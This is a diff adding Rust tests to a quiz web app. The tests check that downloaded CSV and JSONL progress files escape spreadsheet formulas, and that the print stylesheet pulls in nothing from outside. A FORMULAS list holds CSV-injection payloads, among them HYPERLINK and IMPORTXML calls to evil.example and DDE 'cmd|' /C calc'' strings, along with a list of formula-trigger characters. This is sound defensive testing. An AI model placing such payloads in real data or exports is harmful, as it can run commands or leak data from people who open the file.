@@ -442,3 +442,131 @@ fn hostile_words_are_words_on_every_page() {
         assert_eq!(unseen, UNSEEN, "{hostile:?}");
     }
 }
+
+/// What a spreadsheet would take for a formula.
+const FORMULAS: [&str; 8] = [
+    "=HYPERLINK(\"//evil.example/20\",\"press\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "＝IMPORTXML(\"//evil.example/21\",\"//a\")",
+    "=1+1\",=2+2,\"",
+    "=1;=2",
+    "\"=1+1\"",
+];
+
+/// With which a cell begins that is a formula.
+const SIGNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+
+/// The rows of a table as RFC 4180 has it.
+fn table(text: &str) -> Vec<Vec<String>> {
+    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
+            '"' => {
+                assert!(
+                    quoted || cell.is_empty(),
+                    "a quotation mark within {cell:?}"
+                );
+                quoted = !quoted;
+            }
+            ',' if !quoted => row.push(std::mem::take(&mut cell)),
+            '\r' if !quoted && chars.peek() == Some(&'\n') => {
+                chars.next();
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            _ => cell.push(c),
+        }
+    }
+    assert!(
+        !quoted && row.is_empty() && cell.is_empty(),
+        "cut off: {row:?} {cell:?}"
+    );
+    rows
+}
+
+/// A learner's own file.
+fn take(one: &mut Student, path: &str, kind: &str) -> String {
+    one.go("/progress");
+    let form = one.page.form(path);
+    let fields = form.fields.iter();
+    let fields: Vec<(&str, &str)> = fields
+        .map(|(name, value)| (name.as_str(), value.as_str()))
+        .collect();
+    let file = one.browser.post(path, &fields);
+    assert_eq!(file.status, 200);
+    assert!(file.header("content-type").unwrap().starts_with(kind));
+    assert_eq!(file.header("x-content-type-options"), Some("nosniff"));
+    let name = file.header("content-disposition").unwrap();
+    assert!(
+        name.starts_with("attachment; filename=\"factdeck-"),
+        "{name}"
+    );
+    file.body
+}
+
+#[test]
+fn files_to_take_away_hold_hostile_words_as_words() {
+    let formulas = FORMULAS.map(|formula| Words {
+        all: formula.into(),
+        ..Words::harmless(false)
+    });
+    for words in Words::hostile().into_iter().chain(formulas) {
+        let school = words.school();
+        let mut tour = Tour {
+            words: &words,
+            school: &school,
+            one: Student::at(school.browser(), "/"),
+            seen: Vec::new(),
+        };
+        tour.quiz("end");
+        let mut one = tour.one;
+
+        let rows = table(&take(&mut one, "/progress/reviews", "text/csv"));
+        assert!(rows.len() > 10, "{rows:?}");
+        for cell in rows.iter().flatten() {
+            assert!(!cell.starts_with(SIGNS), "{cell:?}");
+        }
+        let (heads, answers) = rows.split_first().unwrap();
+        assert!(
+            answers.iter().all(|row| row.len() == heads.len()),
+            "{rows:?}"
+        );
+        let column = |name: &str| heads.iter().position(|head| head == name).unwrap();
+        let (kind, answer, prompt) = (column("type"), column("answer"), column("prompt"));
+        let typed = answers.iter().find(|row| row[kind] == "short").unwrap();
+        let given = typed[answer].strip_prefix('\'').unwrap_or(&typed[answer]);
+        assert_eq!(line(given), words.line());
+        assert!(
+            answers
+                .iter()
+                .any(|row| line(&row[prompt]).contains(&words.line())),
+            "{rows:?}"
+        );
+
+        let events = take(&mut one, "/progress/events", "application/jsonl");
+        let mut said = Vec::new();
+        for event in events.lines() {
+            let event: serde_json::Value = serde_json::from_str(event).unwrap();
+            said.extend(event["given"]["text"].as_str().map(line));
+        }
+        assert!(said.contains(&words.line()), "{said:?}");
+    }
+}
+
+/// A page is printed as it is shown: its print style puts no words and nothing from elsewhere on paper.
+#[test]
+fn printing_adds_nothing_to_a_page() {
+    let style = include_str!("../templates/style.css");
+    let (_, print) = style.split_once("@media print").unwrap();
+    for adds in ["attr(", "url(", "@import"] {
+        assert!(!style.contains(adds), "{adds}");
+    }
+    assert!(
+        !print.replace("justify-content:", "").contains("content:"),
+        "{print}"
+    );
+}
